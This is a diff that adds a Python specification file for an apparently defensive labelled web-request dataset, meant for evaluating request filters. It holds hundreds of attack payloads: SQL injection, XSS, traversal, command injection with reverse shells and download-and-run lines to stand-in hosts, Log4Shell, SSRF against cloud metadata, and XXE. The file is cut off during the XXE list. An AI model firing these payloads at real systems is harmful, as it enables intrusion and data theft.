@@ -1,0 +1,1195 @@
+"""Hand-written specification of the labelled web request set (rendered by render.py).
+
+ATTACKS and BENIGN are lists of (class, source documentation, lines); each line is one request
+in render.py's notation (q:, qr:, qn:, p:, pe:, ua:, ref:, m:, post:). Written from attack-class
+documentation (OWASP attack pages and cheat sheets, PortSwigger Web Security Academy, vendor
+advisories and CVE write-ups, language manuals, RFC 9110/9112), not copied from any WAF's
+regression tests. Lines starting with // are comments.
+"""
+
+ATTACKS = [
+("sqli", "OWASP SQL Injection + SQLi Prevention Cheat Sheet; PortSwigger SQL injection cheat sheet (MySQL, PostgreSQL, MSSQL, Oracle, SQLite)", r"""
+q:id=1' OR '1'='1
+q:id=1 OR 1=1-- -
+q:id=1' UNION SELECT NULL,username,password FROM users--
+q:id=-1 UNION ALL SELECT 1,2,3,4#
+q:q=x' AND SLEEP(5)-- -
+q:id=1;WAITFOR DELAY '0:0:5'--
+q:id=1' AND pg_sleep(5)--
+q:id=1);SELECT pg_sleep(10)--
+q:id=1' AND 1=CONVERT(int,@@version)--
+q:id=1' AND extractvalue(1,concat(0x7e,version()))-- -
+q:id=1 AND updatexml(1,concat(0x7e,(SELECT user())),1)
+q:id=1;INSERT/**/INTO/**/admins(user,pass)/**/VALUES('x','y')--
+q:id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users
+q:id=1 UnIoN SeLeCt 1,2,3
+q:id=1 /*!50000UNION*/ /*!50000SELECT*/ 1,2
+q:name=admin'--
+q:name=admin' #
+q:user=admin'/*
+q:id=1' or 'a'='a
+q:id=1" or "1"="1
+q:id=1 or true--
+q:id=' or ''='
+q:id=1' HAVING 1=1--
+q:id=1' GROUP BY username HAVING 1=1--
+q:id=1 ORDER BY 10--
+q:sort=(CASE WHEN (1=1) THEN name ELSE price END)
+q:id=1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)
+q:id=1' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a
+q:id=1 AND ASCII(SUBSTR((SELECT database()),1,1))>64
+q:id=1'; DROP TABLE users;--
+q:id=1; EXEC xp_cmdshell('dir')--
+q:id=1; EXEC master..xp_cmdshell 'ping 10.0.0.1'--
+q:id=1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--
+q:id=1' || (SELECT banner FROM v$version WHERE ROWNUM=1)--
+q:id=1 AND 1=utl_inaddr.get_host_name((SELECT user FROM dual))
+q:id=1' AND randomblob(1000000000)--
+q:id=1 UNION SELECT sql FROM sqlite_master
+q:id=1' UNION SELECT load_file('/etc/passwd')--
+q:id=1 UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'
+q:id=1' AND BENCHMARK(5000000,MD5(1))--
+q:id=1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))
+q:id=1' AND 1=CAST((SELECT version()) AS int)--
+q:id=1;COPY (SELECT '') TO PROGRAM 'id'--
+q:q=') or ('1'='1
+qr:id=1%27%20or%20%271%27%3D%271
+qr:id=1%2527%2520union%2520select%25201,2--
+qr:id=1%bf%27%20or%201=1--%20
+qn:id' or 1=1--
+q:id=1 AND 1=1
+q:id=1' and '1'='1
+q:uid=1 procedure analyse()
+q:id=1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)
+q:id=1'+(select*from(select(sleep(20)))a)+'
+q:id=if(now()=sysdate(),sleep(6),0)
+q:email=test@x.com' AND 0x41=0x41--
+qr:id=1%20uNiOn%0aSeLeCt%0a1,2,3
+q:id=0x61646d696e' or 1 LIKE 1--
+q:id=1 and ascii(lower(substring((select top 1 name from sysobjects where xtype='u'),1,1)))>116
+q:id=1;shutdown--
+q:user=admin' AND 1=0 UNION ALL SELECT 'admin','81dc9bdb52d04dc20036dbd8313ed055
+q:id=1' and json_keys((select convert((select concat(0x7e,version())) using utf8)))--
+q:id=1 and exp(~(select * from (select user())x))
+p:/products/1'%20or%20'1'='1
+ua:' or 1=1--
+ref:http://portal.example/?id=1' union select 1,2,3--
+ua:Mozilla/5.0' AND SLEEP(5) AND '1'='1
+q:id=1' WAITFOR TIME '23:59'--
+q:id=1 AND 1 IN (SELECT @@version)
+q:order=id desc,(select 1 from pg_sleep(5))
+q:id=1' union select null,table_name from all_tables--
+q:id=1;declare @q varchar(99);set @q='\\attacker.example\x';exec master.dbo.xp_dirtree @q--
+q:id=1 union select 1,group_concat(column_name) from information_schema.columns where table_name=0x7573657273
+q:name=' || '1'='1
+q:id=1';select case when 1=1 then pg_sleep(5) else pg_sleep(0) end--
+q:id=1 AnD/**/1=1
+q:id=1'/**/oR/**/'x'='x
+q:id=1 and (select 1)=1
+q:id=-1' union(select(1),(2),(3))#
+q:id=1 %26%26 1=1
+q:id=1'||'1
+q:id=1 xor 1
+q:id=1' AND '1'='1'/*
+q:search=%' and 1=0 union select 1,@@version,3 and '%'='
+"""),
+("xss", "OWASP XSS Filter Evasion + XSS Prevention Cheat Sheets; PortSwigger XSS cheat sheet; AngularJS sandbox escapes", r"""
+q:q=<script>alert(1)</script>
+q:q="><script>alert(document.cookie)</script>
+q:q=<img src=x onerror=alert(1)>
+q:q=<svg onload=alert(1)>
+q:q=<svg/onload=alert`1`>
+q:q=<body onload=alert(1)>
+q:q=<iframe src="javascript:alert(1)">
+q:q=<a href="javascript:alert(1)">x</a>
+q:url=javascript:alert(document.domain)
+q:url=JaVaScRiPt:alert(1)
+q:url=java&#x09;script:alert(1)
+q:q=<details open ontoggle=alert(1)>
+q:q=<input autofocus onfocus=alert(1)>
+q:q=<marquee onstart=alert(1)>
+q:q=<video><source onerror="alert(1)">
+q:q=<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
+q:q='-alert(1)-'
+q:q=";alert(1);//
+q:q=</script><script>alert(1)</script>
+q:q=<scr<script>ipt>alert(1)</script>
+q:q=<ScRiPt>prompt(1)</sCrIpT>
+q:q=<img src=x onerror=\u0061lert(1)>
+q:q=<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
+q:q=<svg><animate onbegin=alert(1) attributeName=x dur=1s>
+q:q={{constructor.constructor('alert(1)')()}}
+q:q={{$on.constructor('alert(1)')()}}
+q:q=<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
+q:q=<embed src=javascript:alert(1)>
+q:q=<form action=javascript:alert(1)><input type=submit>
+q:q=<style>@import 'http://evil.example/x.css';</style>
+q:q=<div style="background:url(javascript:alert(1))">
+q:q=<img src="x" onerror="eval(atob('YWxlcnQoMSk='))">
+q:q=<script src=//evil.example/x.js></script>
+q:q=<base href="http://evil.example/">
+q:q=<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
+q:q=<svg><script>alert&#40;1&#41;</script>
+qr:q=%3Cscript%3Ealert(1)%3C%2Fscript%3E
+qr:q=%253Cscript%253Ealert(1)%253C%252Fscript%253E
+qr:q=%u003Cscript%u003Ealert(1)%u003C/script%u003E
+qr:q=%3cimg%20src%3dx%20onerror%3dalert(1)%3e
+q:q=<iframe srcdoc="<script>alert(1)</script>">
+q:q=<img src=x oNeRrOr=confirm(1)>
+q:q=<a onmouseover="alert(1)">hover</a>
+q:q=<x onpointerenter=alert(1)>
+q:q="onmouseover="alert(1)
+q:q=' autofocus onfocus='alert(1)
+q:q=<script>fetch('//evil.example/?c='+document.cookie)</script>
+q:q=<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
+q:q=<isindex type=image src=1 onerror=alert(1)>
+q:q=<link rel=import href=data:text/html,<script>alert(1)</script>>
+q:callback=alert(1)//
+q:q=<img src=x:alert(alt) onerror=eval(src) alt=0>
+q:q=vbscript:msgbox(1)
+q:q=<script>document.write('<img src=//evil.example/'+document.cookie+'>')</script>
+ua:<script>alert(1)</script>
+ref:http://evil.example/"><script>alert(1)</script>
+pe:/search/<script>alert(1)</script>
+pe:/profile/"><img src=x onerror=alert(1)>
+q:name=<svg onload=window.location='//evil.example'>
+q:q=<textarea onfocus=alert(1) autofocus>
+q:q=data:text/html,<script>alert(1)</script>
+q:q=<img src=1 onerror=top['al'+'ert'](1)>
+q:q=<svg onload=setTimeout('alert\x281\x29')>
+q:q=\u003cscript\u003ealert(1)\u003c/script\u003e
+q:q=&lt;script&gt;alert(1)&lt;/script&gt;
+q:q=<img src=x onerror=window['ale'+'rt'](document['coo'+'kie'])>
+q:q=<body onpageshow=alert(1)>
+q:q=<svg><set attributeName=href onbegin=alert(1)>
+q:q=<img/src/onerror=alert(1)>
+q:q=<a href=&#x6a;avascript:alert(1)>x</a>
+"""),
+("path-traversal", "OWASP Path Traversal; PortSwigger File path traversal; CAPEC-126; CVE-2021-41773/42013 advisories", r"""
+q:file=../../../../etc/passwd
+qr:file=..%2f..%2f..%2f..%2fetc%2fpasswd
+qr:file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
+qr:file=%252e%252e%252f%252e%252e%252fetc%252fpasswd
+qr:file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
+qr:file=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
+qr:file=..%5c..%5c..%5cwindows%5cwin.ini
+qr:file=..%255c..%255c..%255cboot.ini
+qr:file=%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd
+qr:file=%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
+q:file=....//....//....//etc/passwd
+q:file=..././..././..././etc/passwd
+qr:file=../../../etc/passwd%00.png
+q:template=../../../../../../windows/win.ini
+q:f=\..\..\..\windows\win.ini
+q:file=..\..\..\..\windows\system32\drivers\etc\hosts
+qr:path=%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem.ini
+q:file=.%2e/.%2e/.%2e/etc/passwd
+qr:page=..%2f..%2f..%2fetc%2fpasswd%2500
+p:/static/..;/WEB-INF/web.xml
+p:/..%2f..%2f..%2f..%2fetc/passwd
+p:/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
+p:/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd
+p:/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd
+p:/download?file=....\/....\/....\/etc/passwd
+p:/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
+p:/vpn/../vpns/cfg/smb.conf
+p:/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../
+p:/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/
+p:/../../../../../../../../etc/passwd
+p:/a/b/%2e%2e/%2e%2e/%2e%2e/etc/passwd
+p:/sites/all/../../../../etc/passwd
+p:/public/plugins/alertlist/../../../../../../../../etc/passwd
+p:/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
+p:/api/v1/totp/user-backup-code/../../system/system-information
+p:/console/css/%252e%252e%252fconsole.portal
+q:view=..%2F..%2Fwp-config.php
+qr:view=..%2F..%2F..%2Fwp-config.php
+q:file=..\..\..\..\..\inetpub\wwwroot\web.config
+qr:img=..%252f..%252f..%252f..%252fetc%252fshadow
+qr:doc=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fWindows%2fwin.ini
+qr:file=..%c1%9c..%c1%9c..%c1%9cboot.ini
+qr:file=%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron
+qn:../../../../etc/passwd
+ua:../../../../etc/passwd
+ref:http://portal.example/download?file=../../../../etc/passwd
+pe:/download/../../../../etc/hosts
+q:dir=../../../../../../../../../../
+q:lang=../../../../../../usr/local/etc/php.ini
+"""),
+("lfi-restricted-file", "OWASP Testing Guide WSTG-ATHZ-01 and WSTG-INPV-11 (file inclusion); PayloadsAllTheThings-style target lists from Linux/Windows documentation", r"""
+q:file=/etc/passwd
+q:file=/etc/shadow
+q:file=/proc/self/environ
+q:file=/proc/self/cmdline
+q:file=/proc/version
+q:file=/etc/hosts
+q:file=/etc/issue
+q:file=/var/log/apache2/access.log
+q:file=C:\Windows\win.ini
+q:file=C:\boot.ini
+q:file=c:/inetpub/wwwroot/web.config
+q:file=../web.config
+q:file=../../.htaccess
+q:file=../../.git/config
+q:file=../../../.env
+q:file=../../../../root/.ssh/id_rsa
+q:file=/home/deploy/.ssh/id_rsa
+q:file=../../WEB-INF/web.xml
+p:/WEB-INF/web.xml
+q:doc=/etc/passwd
+q:path=%SYSTEMROOT%\win.ini
+q:file=../config/database.yml
+q:file=../../../../var/www/html/wp-config.php
+q:file=C:/Windows/System32/config/SAM
+q:file=/etc/nginx/nginx.conf
+q:file=../../../../etc/mysql/my.cnf
+q:file=/root/.bash_history
+q:file=~/.aws/credentials
+q:file=/proc/self/fd/3
+q:file=/etc/group
+q:file=/var/run/secrets/kubernetes.io/serviceaccount/token
+q:page=WEB-INF/classes/application.properties
+q:file=/etc/ssh/sshd_config
+q:file=C:\Windows\System32\inetsrv\config\applicationHost.config
+q:file=/proc/self/status
+q:tpl=/etc/passwd%00
+q:file=../../../../boot.ini
+q:report=/usr/local/tomcat/conf/tomcat-users.xml
+q:file=META-INF/MANIFEST.MF
+q:file=.git/HEAD
+"""),
+("rfi", "OWASP Testing for Remote File Inclusion (WSTG-INPV-11.2); PHP manual allow_url_include", r"""
+q:page=http://evil.example/shell.txt?
+q:page=https://203.0.113.9/c99.txt
+q:file=ftp://evil.example/s.txt
+qr:inc=http://evil.example/shell.txt%00
+q:page=\\203.0.113.9\share\shell.php
+q:mosConfig_absolute_path=http://evil.example/r57.txt?
+q:include=http://10.0.0.5:8080/x.php?
+q:template=https://pastebin.example/raw/abc123?
+q:lang=http://evil.example/evil?
+p:/index.php?page=http://evil.example/sh.txt??
+q:file=HTTP://EVIL.EXAMPLE/SHELL.TXT?
+qr:GLOBALS[root_path]=http://evil.example/x?
+qr:_SERVER[DOCUMENT_ROOT]=http://evil.example/x.txt?
+q:module=smb://203.0.113.9/share/x.php
+q:path=http://evil.example/x.txt%3f
+q:page=https://evil.example/payload.php
+q:inc=http://203.0.113.9/b374k.txt
+q:config=ftp://anonymous@203.0.113.9/x.php
+"""),
+("command-injection", "OWASP Command Injection + OS Command Injection Defense Cheat Sheet; PortSwigger OS command injection; bash(1) and cmd.exe documentation", r"""
+q:ip=127.0.0.1;id
+q:ip=127.0.0.1|whoami
+q:ip=127.0.0.1&&cat /etc/passwd
+q:ip=127.0.0.1||uname -a
+q:ip=`id`
+q:ip=$(whoami)
+q:host=x;cat${IFS}/etc/passwd
+q:host=x;cat$IFS$9/etc/passwd
+q:host=x;{cat,/etc/passwd}
+q:host=x;/bin/cat /e??/p??swd
+q:host=x;/???/c?t /???/p??s??
+q:host=x;c''at /etc/pa''sswd
+q:host=x;c"a"t /etc/passwd
+q:host=x;c\at /et\c/pas\swd
+q:host=x;ca$@t /etc/passwd
+qr:host=x%0aid
+qr:host=x%0Acat%20/etc/passwd
+q:host=x;wget http://evil.example/x.sh -O /tmp/x.sh;sh /tmp/x.sh
+q:host=x;curl -s http://evil.example/x|bash
+q:host=x;nc -e /bin/sh 203.0.113.9 4444
+q:host=x;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
+q:host=x;python -c 'import socket,os,pty;s=socket.socket()'
+q:host=x;perl -e 'use Socket;'
+q:host=x;rm -rf /tmp/*;
+q:host=x;echo c2ggLWk= | base64 -d | sh
+q:host=x|busybox telnetd -l /bin/sh
+q:host=x;sleep 10
+q:host=x`sleep 5`
+q:host=x$(sleep 5)
+q:host=x;ping -c 10 127.0.0.1
+q:host=x&ping -n 10 127.0.0.1&
+q:host=x;cat</etc/passwd
+q:host=x;tac /etc/shadow
+q:host=x;more /etc/passwd
+q:host=x;head -n1 /etc/passwd
+q:host=x;ls -la /
+q:host=x;uname${IFS}-a
+q:host=x;echo${IFS}vulnerable
+q:host=x;$(printf '\x69\x64')
+q:host=x;a=i;b=d;$a$b
+q:host=x;/bin/b??h -c id
+q:host=x;/usr/bin/id
+q:host=x|id
+q:cmd=id
+q:cmd=whoami
+q:cmd=cat /etc/passwd
+q:exec=ls -la
+q:host=x;chmod 777 /tmp/x
+q:host=x;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f
+q:host=x;curl http://evil.example/$(whoami)
+q:host=x;nslookup $(whoami).evil.example
+q:host=x|cmd /c dir
+q:host=x&dir c:\
+q:host=x&type C:\Windows\win.ini
+q:host=x&ipconfig /all
+q:host=x&net user hacker P@ss /add
+q:host=x&whoami /priv
+q:host=x|powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
+q:host=x|powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')
+q:host=x&for /f "tokens=*" %a in ('whoami') do echo %a
+q:host=x&FOR /F %i IN ('dir /b') DO type %i
+q:host=x&certutil -urlcache -split -f http://evil.example/a.exe a.exe
+q:host=x&echo %USERNAME%
+q:host=x&systeminfo
+q:host=x&tasklist
+q:host=x&c^m^d /c who^ami
+q:host=x&%COMSPEC% /c whoami
+q:host=x;w'h'o'am'i
+q:host=x;who$()ami
+q:host=x;${PATH:0:1}etc${PATH:0:1}passwd
+q:host=x;cat /etc/passwd #
+pe:/cgi-bin/test.cgi;id
+p:/cgi-bin/ping.cgi?ip=1.1.1.1%3Bcat%20%2Fetc%2Fpasswd
+q:host=x;id;#
+qr:host=x%26%26whoami
+q:host=x;getent passwd
+q:host=x;/sbin/ifconfig
+q:host=x;env
+q:host=x|/usr/bin/nc 203.0.113.9 80
+q:host=x;u=$(id);echo $u
+q:host=x;cat /e"t"c/pa"s"swd
+q:host=x;`echo aWQ= | base64 -d`
+q:host=x||ver
+q:host=x&powershell.exe -nop -w hidden -c "whoami"
+q:host=x&cmd.exe /c "type C:\inetpub\wwwroot\web.config"
+q:host=x;/usr/bin/wget${IFS}evil.example/x
+q:host=x;X=$'\x69\x64';$X
+q:file=a.pdf;rm -rf /var/www
+q:host=x;tail -f /var/log/auth.log
+"""),
+("shellshock", "CVE-2014-6271 advisory (GNU bash function export)", r"""
+ua:() { :; }; /bin/bash -c "cat /etc/passwd"
+ua:() { ignored; }; echo Content-Type: text/plain; echo; id
+ref:() { :;}; /usr/bin/wget http://evil.example/x
+ua:() { :;}; echo; /bin/sh -c 'uname -a'
+ua:() { _; } >_[$($())] { id; }
+"""),
+("code-injection", "OWASP Code Injection; PHP manual (program execution, wrappers, unserialize); Java Runtime/ProcessBuilder and serialization docs; Node.js child_process docs; Python __import__ and pickle docs", r"""
+q:cmd=system('id');
+q:code=phpinfo();
+q:x=<?php system($_GET['c']); ?>
+q:x=<?= `id` ?>
+q:x=<?php eval(base64_decode('cGhwaW5mbygpOw=='));?>
+q:func=passthru('ls -la')
+q:x=shell_exec('whoami')
+q:x=exec('id')
+q:x=popen('id','r')
+q:x=proc_open('id',array(),$p)
+q:x=assert('system("id")')
+q:x=preg_replace('/.*/e','system("id")','')
+q:x=create_function('','system("id");')
+q:x=call_user_func('system','id')
+q:x=file_put_contents('s.php','<?php eval($_POST[1]);?>')
+q:x=${@phpinfo()}
+q:x=eval($_REQUEST['c'])
+q:x=include($_GET['f'])
+q:page=php://filter/convert.base64-encode/resource=index.php
+q:page=php://filter/read=string.rot13/resource=config.php
+q:page=php://input
+q:page=data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==
+q:page=data:text/plain,<?php phpinfo();?>
+q:page=expect://id
+q:page=zip://uploads/avatar.jpg#shell
+q:page=phar://uploads/x.jpg/shell
+q:page=glob:///var/www/*
+q:page=file:///etc/passwd
+q:data=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}
+q:data=a:1:{i:0;O:7:"Example":1:{s:3:"cmd";s:2:"id";}}
+q:obj=O:21:"Monolog\Handler\Syslog":1:{s:9:"*socket";N;}
+q:x=java.lang.Runtime.getRuntime().exec('id')
+q:x=new java.lang.ProcessBuilder({'id'}).start()
+q:x=Class.forName('java.lang.Runtime')
+q:data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==
+q:x=T(java.lang.Runtime).getRuntime().exec('id')
+q:x=#{T(java.lang.System).getenv()}
+q:x=require('child_process').exec('id')
+q:x=process.mainModule.require('child_process').execSync('id')
+q:x=global.process.mainModule.constructor._load('child_process').exec('id')
+q:x=this.constructor.constructor('return process')().exit()
+q:x=eval("require('fs').readFileSync('/etc/passwd')")
+q:x=_$$ND_FUNC$$_function(){require('child_process').exec('id')}()
+q:x=res.end(require('fs').readdirSync('.').toString())
+q:x=__import__('os').system('id')
+q:x=__import__('os').popen('id').read()
+q:x=eval(compile('import os;os.system("id")','a','exec'))
+q:x=exec("import subprocess;subprocess.call(['id'])")
+q:x=().__class__.__bases__[0].__subclasses__()
+q:x=getattr(__builtins__,'__import__')('os').system('id')
+q:x=Response.Write(CreateObject("WScript.Shell").Exec("cmd /c whoami").StdOut.ReadAll())
+q:x=Kernel.exec('id')
+q:x=%x(id)
+q:x=";system('id');//
+q:x=phpinfo()
+q:x=base64_decode('c3lzdGVt')('id')
+q:x=$_GET[0]($_GET[1])
+q:x=<?php echo file_get_contents('/etc/passwd'); ?>
+qr:x=%3C%3Fphp%20passthru($_GET%5B'c'%5D)%3B%3F%3E
+q:x=highlight_file('config.php')
+q:x=java.lang.System.getProperty("user.dir")
+q:data=H4sIAAAAAAAAAKtWSkxOzEvOT0lVsgIAp3PvqxEAAAA=rO0AB
+q:x=os.system('id')
+q:x=subprocess.Popen(['id'])
+"""),
+("template-injection", "PortSwigger Server-side template injection; Jinja2, Twig, FreeMarker, Velocity, Smarty, ERB, Thymeleaf docs", r"""
+q:name={{7*7}}
+q:name={{7*'7'}}
+q:name=${7*7}
+q:name=<%= 7*7 %>
+q:name=#{7*7}
+q:name=*{7*7}
+q:name={{config.items()}}
+q:name={{self.__init__.__globals__.__builtins__}}
+q:name={{''.__class__.__mro__[1].__subclasses__()}}
+q:name={{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
+q:name={{cycler.__init__.__globals__.os.popen('id').read()}}
+q:name={{lipsum.__globals__['os'].popen('id').read()}}
+q:name={% import os %}{{ os.popen('id').read() }}
+q:name=<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
+q:name=${"freemarker.template.utility.Execute"?new()("id")}
+q:name=#set($x='')$x.class.forName('java.lang.Runtime')
+q:name=${T(java.lang.Runtime).getRuntime().exec('id')}
+q:name={{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
+q:name={{['id']|filter('system')}}
+q:name={php}echo `id`;{/php}
+q:name={system('id')}
+q:name=@{ System.Diagnostics.Process.Start("cmd.exe","/c whoami"); }
+q:name=${{7*7}}
+q:name={{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
+q:name=<%= system("id") %>
+q:name=${{<%[%'"}}%\.
+q:name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}
+q:name={{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
+q:name=__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
+q:name=[[${7*7}]]
+q:name={{dump(app)}}
+q:name=${application}
+q:name=#{session.getAttribute('user')}
+"""),
+("log4shell", "CVE-2021-44228/45046 advisories; Log4j 2 lookups manual (jndi, lower, upper, env, sys, date, default values)", r"""
+ua:${jndi:ldap://evil.example/a}
+ua:${jndi:rmi://203.0.113.9:1099/a}
+ua:${jndi:dns://evil.example/a}
+q:x=${jndi:ldap://evil.example:1389/Basic/Command/Base64/aWQ=}
+q:x=${${lower:j}ndi:${lower:l}dap://evil.example/a}
+q:x=${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}
+q:x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}
+q:x=${jn${lower:d}i:l${lower:d}ap://evil.example/a}
+q:x=${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example/a}
+q:x=${j${k8s:k5:-ND}i:ldap://evil.example/a}
+q:x=${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}
+q:x=${jndi:ldaps://evil.example/a}
+q:x=${jndi:iiop://evil.example/a}
+q:x=${jndi:corba://evil.example/a}
+q:x=${jndi:nis://evil.example/a}
+q:x=${jndi:nds://evil.example/a}
+q:x=${jndi:http://evil.example/a}
+q:x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}
+q:x=${jndi:ldap://${env:USER}.evil.example/a}
+q:x=${${sys:unknown:-j}ndi:ldap://evil.example/a}
+q:x=${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}
+q:x=${env:AWS_SECRET_ACCESS_KEY}
+q:x=${jndi:ldap://127.0.0.1#evil.example:1389/a}
+ref:${jndi:ldap://evil.example/ref}
+qn:${jndi:ldap://evil.example/n}
+pe:/${jndi:ldap://evil.example/p}
+qr:x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D
+qr:x=%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D
+q:x=${j${::-n}di:ldap://evil.example/a}
+q:x=${j${lower:N}di:ldap://evil.example/a}
+q:x=${\u006a\u006e\u0064\u0069:ldap://evil.example/a}
+q:x=${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}
+q:x=${sys:java.version}
+q:x=${${lower:${lower:jndi}}:${lower:rmi}://evil.example/a}
+ua:Mozilla/5.0 ${jndi:ldap://${hostName}.evil.example/a}
+"""),
+("ssrf", "OWASP SSRF Prevention Cheat Sheet; PortSwigger SSRF; AWS/GCP/Azure/Alibaba instance metadata docs; RFC 3986 authority syntax", r"""
+q:url=http://169.254.169.254/latest/meta-data/iam/security-credentials/
+q:url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
+q:url=http://169.254.169.254/metadata/instance?api-version=2021-02-01
+q:url=http://100.100.100.200/latest/meta-data/
+q:url=http://[fd00:ec2::254]/latest/meta-data/
+q:url=http://2852039166/latest/meta-data/
+q:url=http://0xA9FEA9FE/latest/meta-data/
+q:url=http://0251.0376.0251.0376/
+q:url=http://0xa9.0xfe.0xa9.0xfe/
+q:url=http://169.254.169.254.nip.io/
+q:url=http://127.0.0.1:8080/admin
+q:url=http://localhost:6379/
+q:url=http://127.1/
+q:url=http://0/
+q:url=http://0.0.0.0:22/
+q:url=http://[::1]:80/
+q:url=http://[::ffff:127.0.0.1]/
+q:url=http://[0:0:0:0:0:ffff:7f00:1]/
+q:url=http://2130706433/
+q:url=http://0x7f000001/
+q:url=http://017700000001/
+q:url=http://portal.example@127.0.0.1/
+q:url=http://127.0.0.1#@portal.example/
+q:url=http://evil.example@169.254.169.254/
+q:url=gopher://127.0.0.1:6379/_SET%20x%20y
+q:url=dict://127.0.0.1:11211/stats
+q:url=file:///etc/passwd
+q:url=http://10.0.0.1/admin
+q:url=http://192.168.1.1/cgi-bin/
+q:url=http://172.16.0.10:8500/v1/agent/self
+q:url=http://kubernetes.default.svc/api/v1/namespaces
+q:url=http://localhost:2375/containers/json
+q:url=ldap://127.0.0.1:389/
+q:url=http://[::]:80/
+q:url=http://127.0.0.1.nip.io:8080/
+q:url=jar:http://127.0.0.1!/
+q:url=http://169.254.170.2/v2/credentials
+q:webhook=http://instance-data/latest/meta-data/
+q:image=http://169.254.169.254/latest/user-data
+q:feed=http://localtest.me/
+"""),
+("xxe", "OWASP XXE Prevention Cheat Sheet; PortSwigger XXE injection; W3C XInclude and XSLT", r"""
+q:xml=<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>
+q:xml=<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;]>
+q:xml=<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">
+q:xml=<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "expect://id">]>
+q:data=<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI +AD4AXQA+-
+q:xml=<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
+q:svg=<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>
+q:xml=<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>
+q:xml=<!DOCTYPE r [<!ENTITY % a SYSTEM "jar:http://evil.example/x.zip!/a">%a;]>
+q:xml=<!DOCTYPE foo PUBLIC "-//x//y" "http://evil.example/x.dtd"><foo/>
+q:xml=<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>
+q:xml=<!ENTITY % file SYSTEM "file:///c:/windows/win.ini">
+q:soap=<soap:Body><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><y>&y;</y></soap:Body>
+q:xsl=<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:value-of select="system-property('xsl:vendor')"/></xsl:stylesheet>
+ua:<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>
